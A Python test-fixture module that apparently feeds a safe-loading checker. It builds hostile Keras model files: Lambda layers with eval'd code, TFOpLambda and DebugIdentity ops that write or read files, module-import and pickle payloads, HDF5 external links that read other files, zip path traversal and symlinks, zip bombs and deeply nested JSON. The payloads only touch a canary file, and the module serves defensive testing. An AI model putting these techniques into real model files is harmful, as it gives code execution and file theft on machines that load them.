"""Keras files that attack whoever loads them: each maker writes one and returns its path."""

from __future__ import annotations

import base64
import io
import json
import shutil
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SECRET = b"secret-0123456789-secret-0123456789"
"""what no output, message or file may hold; of 35 bytes"""


@dataclass(frozen=True)
class Traps:
    """Where an attack writes (`canary`, which is not there) and reads (`secret`), and the folder it is made in."""

    folder: Path
    canary: Path
    secret: Path


Make = Callable[[Traps], Path]
KERAS: dict[str, Make] = {}
"""attacks that run with trust, or with the check left out"""
KERAS_QUIET: dict[str, Make] = {}
"""refused too; nothing shows whether they run: the loaders of these versions stop them, or they exhaust memory"""


def attack(name: str, table: dict[str, Make] = KERAS) -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        table[name] = make
        return make

    return add


def _lambda(traps: Traps) -> Any:
    return eval(f"lambda x: (open({str(traps.canary)!r}, 'w').close(), x)[1]")


def _save(keras: Any, layer: Any, path: Path) -> Path:
    samples = keras.Input((8,), name="samples")
    keras.Model(samples, layer(keras.layers.Reshape((8, 1), name="shape")(samples))).save(path)
    return path


def edit_h5(path: Path, change: Callable[[Any], Any]) -> Path:
    """Bend the description in an HDF5 file."""
    import h5py

    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        file.attrs["model_config"] = json.dumps(change(config) or config)
    return path


def edit_archive(path: Path, change: Callable[[str, bytes], bytes | None]) -> Path:
    """Bend the members of a `.keras` file."""
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(path, "w") as new:
        for name, data in members.items():
            bent = change(name, data)
            if bent is not None:
                new.writestr(name, bent)
    return path


def edit_config(path: Path, change: Callable[[Any], Any]) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name != "config.json":
            return data
        config = json.loads(data)
        return json.dumps(change(config) or config).encode()

    return edit_archive(path, edit)


def _layer(config: Any, class_name: str) -> Any:
    return next(layer for layer in config["config"]["layers"] if layer["class_name"] == class_name)


def _in_layer(kind: str, **changes: Any) -> Callable[[Any], None]:
    def change(config: Any) -> None:
        layer = _layer(config, kind)
        layer["config"].update(changes.pop("config", {}))
        layer.update(changes)

    return change


def _good_h5(traps: Traps, name: str = "m.h5") -> Path:
    import tf_keras

    return _save(tf_keras, tf_keras.layers.Dense(2, activation="relu"), traps.folder / name)


def _good_keras(traps: Traps, name: str = "m.keras") -> Path:
    import keras

    return _save(keras, keras.layers.Dense(2, activation="relu"), traps.folder / name)


def _good_keras_2(traps: Traps, name: str = "m.keras") -> Path:
    import tf_keras

    return _save(tf_keras, tf_keras.layers.Dense(2, activation="relu"), traps.folder / name)


@attack("Lambda in .h5")
def _(traps: Traps) -> Path:
    import tf_keras

    return _save(tf_keras, tf_keras.layers.Lambda(_lambda(traps)), traps.folder / "m.h5")


@attack("Lambda in .hdf5")
def _(traps: Traps) -> Path:
    return KERAS["Lambda in .h5"](traps).rename(traps.folder / "m.hdf5")


@attack("Lambda in HDF5 that is called .keras, which Keras 2 reads")
def _(traps: Traps) -> Path:
    return KERAS["Lambda in .h5"](traps).rename(traps.folder / "m.keras")


@attack("Lambda in .keras of Keras 3")
def _(traps: Traps) -> Path:
    import keras

    layer = keras.layers.Lambda(_lambda(traps), output_shape=(8, 1))
    return _save(keras, layer, traps.folder / "m.keras")


@attack("Lambda in .keras of Keras 2")
def _(traps: Traps) -> Path:
    import tf_keras

    return _save(tf_keras, tf_keras.layers.Lambda(_lambda(traps)), traps.folder / "m.keras")


@attack("Lambda within TimeDistributed in .h5")
def _(traps: Traps) -> Path:
    import tf_keras

    layer = tf_keras.layers.TimeDistributed(tf_keras.layers.Lambda(_lambda(traps)))
    return _save(tf_keras, layer, traps.folder / "m.h5")


@attack("Lambda within a model within a model in .h5")
def _(traps: Traps) -> Path:
    import tf_keras

    inner = tf_keras.Sequential([tf_keras.Input((8, 1)), tf_keras.layers.Lambda(_lambda(traps))])
    return _save(tf_keras, inner, traps.folder / "m.h5")


@attack("a function in ResidualWrapper in .h5")
def _(traps: Traps) -> Path:
    import tf_keras
    from tf_keras.src.layers.rnn.cell_wrappers import ResidualWrapper

    function = eval(f"lambda i, o: (open({str(traps.canary)!r}, 'w').close(), o)[1]")
    wrapper = ResidualWrapper(tf_keras.layers.GRUCell(1), residual_fn=function)
    return _save(tf_keras, tf_keras.layers.RNN(wrapper), traps.folder / "m.h5")


def _call_op(traps: Traps, change: Callable[[Any], None]) -> Path:
    """A model of Keras 2 with one layer, of an op, which `change` bends."""
    import tensorflow as tf
    import tf_keras

    samples = tf_keras.Input((8,), name="samples")
    path = traps.folder / "m.h5"
    tf_keras.Model(samples, tf.math.add(samples, 1.0)).save(path)
    return edit_h5(path, lambda config: change(_layer(config, "TFOpLambda")))


def _call_function(traps: Traps, symbol: str, value: str, **settings: Any) -> Path:
    """A `TFOpLambda` that calls a function of TensorFlow on constants."""

    def change(layer: Any) -> None:
        layer["config"]["function"] = symbol
        layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, value, settings]]

    return _call_op(traps, change)


@attack("TFOpLambda that writes a file in .h5")
def _(traps: Traps) -> Path:
    return _call_function(traps, "io.write_file", str(traps.canary), contents="x")


@attack("TFOpLambda that reads a file in .h5")
def _(traps: Traps) -> Path:
    return _call_function(traps, "io.read_file", str(traps.secret))


@attack("TensorFlowOpLayer that writes a file in .h5")
def _(traps: Traps) -> Path:
    """Keras 2's layer of any op: here one that passes its tensor on, and dumps it."""
    url = base64.b64encode(f"file://{traps.canary}".encode()).decode()
    name = base64.b64encode(b"a:0").decode()
    attributes = {"T": {"type": "DT_FLOAT"}, "tensor_name": {"s": name}, "debug_urls": {"list": {"s": [url]}}}
    node = {"name": "w", "op": "DebugIdentity", "input": ["x"], "attr": attributes}

    def change(layer: Any) -> None:
        layer["class_name"] = "TensorFlowOpLayer"
        layer["config"] = {"name": layer["name"], "dtype": "float32", "constants": {}, "node_def": node}
        layer["inbound_nodes"] = [["samples", 0, 0, {}]]

    return _call_op(traps, change)


def _as_model(**names: Any) -> Make:
    """In place of the model, which Keras 2 looks up by its module."""
    return lambda traps: edit_config(_good_keras_2(traps), lambda config: {**config, **names})


MODULE: dict[str, Any] = {"module": "hostile_neighbour", "registered_name": None}
KERAS.update(
    {
        "a module to import, of a class, in .keras": _as_model(**MODULE, class_name="E"),
        "a module to import, of a function, in .keras": _as_model(**MODULE, class_name="function", config="f"),
        "a module to import, of a type, in .keras": _as_model(
            **MODULE, class_name="__typespec__", spec_name="E", config=[]
        ),
    }
)


@attack("a module to import, of a layer, in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    return edit_config(_good_keras_2(traps), _in_layer("Dense", module="hostile_neighbour", class_name="E"))


@attack("a module to import, of an activation, in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    function = {**MODULE, "class_name": "function", "config": "f"}
    return edit_config(_good_keras_2(traps), _in_layer("Dense", config={"activation": function}))


@attack("a module to import, of how an inner model was compiled, in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    import tf_keras

    inner = tf_keras.Sequential([tf_keras.Input((8, 1)), tf_keras.layers.Dense(1)])
    inner.compile("sgd", "mse")
    path = _save(tf_keras, inner, traps.folder / "m.keras")

    def change(config: Any) -> None:
        _layer(config, "Sequential")["compile_config"]["loss"] = {**MODULE, "class_name": "E", "config": {}}

    return edit_config(path, change)


@attack("a vocabulary that is another file in .keras")
def _(traps: Traps) -> Path:
    return _lookup(traps, "StringLookup", "m.keras")


@attack("a vocabulary that is another file in .h5")
def _(traps: Traps) -> Path:
    return _lookup(traps, "StringLookup", "m.h5")


@attack("a vocabulary of TextVectorization that is another file in .h5")
def _(traps: Traps) -> Path:
    return _lookup(traps, "TextVectorization", "m.h5")


def _lookup(traps: Traps, name: str, file: str) -> Path:
    import tf_keras as keras

    layer = getattr(keras.layers, name)(vocabulary=["a"])
    words = keras.Input((1,), name="words", dtype="string")
    keras.Model(words, layer(words)).save(traps.folder / file)
    change = _in_layer(name, config={"vocabulary": str(traps.secret), "vocabulary_size": None})
    return (edit_config if file.endswith(".keras") else edit_h5)(traps.folder / file, change)


@attack("IntegerLookup with a file in .keras of Keras 3", KERAS_QUIET)
def _(traps: Traps) -> Path:
    change = _in_layer("Dense", class_name="IntegerLookup", config={"vocabulary": str(traps.secret)})
    return edit_config(_good_keras(traps), change)


@attack("a SavedModel elsewhere, by TFSMLayer, in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    inner = {"filepath": str(traps.folder), "call_endpoint": "serve", "call_training_endpoint": None}
    return edit_config(_good_keras(traps), _in_layer("Dense", class_name="TFSMLayer", config=inner))


@attack("a pickle in TorchModuleWrapper in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    import pickle

    class Payload:
        def __reduce__(self) -> Any:
            return open, (str(traps.canary), "w")

    text = base64.b64encode(pickle.dumps(Payload())).decode()
    change = _in_layer("Dense", class_name="TorchModuleWrapper", config={"module": text})
    return edit_config(_good_keras(traps), change)


@attack("Keras' own switch for unsafe loading, as a layer, in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    change = _in_layer("Dense", class_name="enable_unsafe_deserialization", module="keras.config")
    return edit_config(_good_keras(traps), change)


@attack("a download by keras.utils.get_file in .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    function = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    return edit_config(_good_keras(traps), _in_layer("Dense", config={"activation": function}))


@attack("any attribute of a tensor, by InstanceMethod, in .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    return edit_h5(_good_h5(traps), _in_layer("Dense", class_name="InstanceMethod", config={"attr_name": "__reduce__"}))


@attack("a name out of Keras 2's own module as an activation in .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    return edit_h5(_good_h5(traps), _in_layer("Dense", config={"activation": "deserialize"}))


@attack("a link to another file in .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    return _lead_away(_good_h5(traps), traps, "link")


@attack("an array in another file in .h5")
def _(traps: Traps) -> Path:
    return _lead_away(_good_h5(traps), traps, "external")


@attack("a virtual array in .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    return _lead_away(_good_h5(traps), traps, "virtual")


@attack("an array in another file in .keras")
def _(traps: Traps) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith(".h5"):
            return data
        inner = traps.folder / "inner.h5"
        inner.write_bytes(data)
        return _lead_away(inner, traps, "external").read_bytes()

    return edit_archive(_good_keras_2(traps), edit)


def _lead_away(path: Path, traps: Traps, how: str) -> Path:
    """The array of the kernel comes from elsewhere: the secret's bytes, as two numbers of 32 bits."""
    import h5py
    import numpy as np

    with h5py.File(path, "r+") as file:
        found: list[str] = []
        file.visititems(lambda name, item: found.append(name) if getattr(item, "shape", ()) == (1, 2) else None)
        place = found[0]
        del file[place]
        if how == "external":
            file.create_dataset(place, (1, 2), "f4", external=[(str(traps.secret), 0, 8)])
            return path
        other = traps.folder / "other.h5"
        with h5py.File(other, "w") as victim:
            victim["kernel"] = np.frombuffer(SECRET[:8], "f4").reshape(1, 2)
        shutil.copy(other, traps.secret)
        if how == "link":
            file[place] = h5py.ExternalLink(str(traps.secret), "/kernel")
        else:
            layout = h5py.VirtualLayout((1, 2), "f4")
            layout[:] = h5py.VirtualSource(str(traps.secret), "kernel", (1, 2))
            file.create_virtual_dataset(place, layout)
    return path


@attack("a ZIP archive glued to an .h5 with a Lambda")
def _(traps: Traps) -> Path:
    path = KERAS["Lambda in .h5"](traps)
    glued = io.BytesIO()
    with zipfile.ZipFile(glued, "w") as archive:
        archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {}}))
    path.write_bytes(path.read_bytes() + glued.getvalue())
    return path


@attack("a ZIP archive that is called .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    return _good_keras(traps).rename(traps.folder / "m.h5")


@attack("a folder that is called .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    path = _good_keras(traps)
    with zipfile.ZipFile(path) as archive:
        archive.extractall(traps.folder / "folder")
    path.unlink()
    return (traps.folder / "folder").rename(path)


def _with_member(make: Callable[[zipfile.ZipFile], None]) -> Make:
    def add(traps: Traps) -> Path:
        path = _good_keras(traps)
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            make(archive)
        return path

    return add


def _link(archive: zipfile.ZipFile) -> None:
    member = zipfile.ZipInfo("assets/link")
    member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    archive.writestr(member, "/etc")


def _twice(archive: zipfile.ZipFile) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("config.json", b"{}")


def _bomb(archive: zipfile.ZipFile) -> None:
    with archive.open("assets/zeros", "w", force_zip64=True) as member:
        for _ in range(300):
            member.write(bytes(2**20))


def _many(archive: zipfile.ZipFile) -> None:
    for number in range(100_001):
        archive.writestr(f"a/{number}", b"", zipfile.ZIP_STORED)


def _nul(archive: zipfile.ZipFile) -> None:
    member = zipfile.ZipInfo("assets/x")
    member.filename = "assets/x\0.txt"
    archive.writestr(member, b"")


KERAS_QUIET.update(
    {
        "a member of .keras above its folder": _with_member(lambda archive: archive.writestr("../../above", b"")),
        "a member of .keras with a whole path": _with_member(lambda archive: archive.writestr("/tmp/above", b"")),
        "a member of .keras that is a link": _with_member(_link),
        "a member of .keras twice": _with_member(_twice),
        "a member of .keras with NUL in its name": _with_member(_nul),
        "a .keras that unpacks to a thousand times its size": _with_member(_bomb),
        "a .keras with 100,001 members": _with_member(_many),
    }
)


def _text(text: bytes) -> Make:
    return lambda traps: edit_archive(_good_keras(traps), lambda name, data: text if name == "config.json" else data)


KERAS_QUIET.update(
    {
        "JSON of depth 100,000 in .keras": _text(b'{"config":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "a number of 5,000 digits in .keras": _text(b'{"class_name": ' + b"1" * 5000 + b"}"),
        "bytes that are no text in .keras": _text(b"\xff\xfe\x00"),
        "no description in .keras": lambda traps: edit_archive(
            _good_keras(traps), lambda name, data: None if name == "config.json" else data
        ),
    }
)


@attack("JSON of depth 20,000 in .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    """As deep as an attribute of HDF5 can hold."""
    import h5py

    path = _good_h5(traps)
    with h5py.File(path, "r+", libver="latest") as file:
        file.attrs["model_config"] = "[" * 20_000 + "]" * 20_000
    return path


@attack("an array of a terabyte that is not there in .h5", KERAS_QUIET)
def _(traps: Traps) -> Path:
    import h5py

    path = _good_h5(traps)
    with h5py.File(path, "r+") as file:
        file.create_dataset("model_weights/big", (2**38,), "f4", chunks=(2**20,), compression="gzip")
    return path


@attack("an encrypted .keras", KERAS_QUIET)
def _(traps: Traps) -> Path:
    path = _good_keras(traps)
    data = bytearray(path.read_bytes())
    for start, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = data.find(start)
        data[place + offset] |= 1
    path.write_bytes(data)
    return path


@attack("a .keras cut off", KERAS_QUIET)
def _(traps: Traps) -> Path:
    path = _good_keras(traps)
    path.write_bytes(path.read_bytes()[:-300])
    return path


@attack("an .h5 cut off", KERAS_QUIET)
def _(traps: Traps) -> Path:
    path = _good_h5(traps)
    path.write_bytes(path.read_bytes()[:-3000])
    return path
